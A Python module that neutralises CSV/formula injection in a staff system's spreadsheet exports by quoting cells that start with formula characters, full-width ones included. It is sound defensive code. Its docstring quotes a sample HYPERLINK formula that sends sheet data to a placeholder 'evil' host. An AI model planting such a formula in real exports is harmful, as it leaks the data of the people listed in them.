"""Spreadsheet and CSV cells that cannot run as formulas (CSV/formula injection, OWASP "CSV Injection").

Text typed by the public (an applicant's name, a complaint) ends up in the staff's .xlsx and CSV exports. Excel,
WPS and LibreOffice treat a cell that starts with = + - @ (and tab or carriage return, which some of them skip
before looking) as a formula, so `=HYPERLINK("http://evil/?x="&A1,"点我")` would send the sheet's data away when
clicked. As OWASP recommends, such text is prefixed with a single quote, which the spreadsheet shows as text;
full-width ＝＋－＠ are treated alike because Chinese input methods type them and some spreadsheets convert them.
Numbers, dates and text that is a plain number ("-3", "+86") stay as they are. Every export writes its cells
through `safe_cell` (openpyxl: `append_row`; csv: `SafeWriter`); a test checks that no module uses openpyxl or
csv writers without this module.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` for a spreadsheet cell: text that a spreadsheet would read as a formula gets a leading "'"."""
    if value is None or isinstance(value, int | float | Decimal | dt.date | dt.datetime | dt.time | bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def append_row(worksheet, values: Iterable[Any]) -> None:
    """`worksheet.append(values)` with every cell made safe (openpyxl would store "=…" as a formula)."""
    worksheet.append(safe_row(values))


class SafeWriter:
    """A csv.writer whose rows are made safe cell by cell."""

    def __init__(self, out, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)
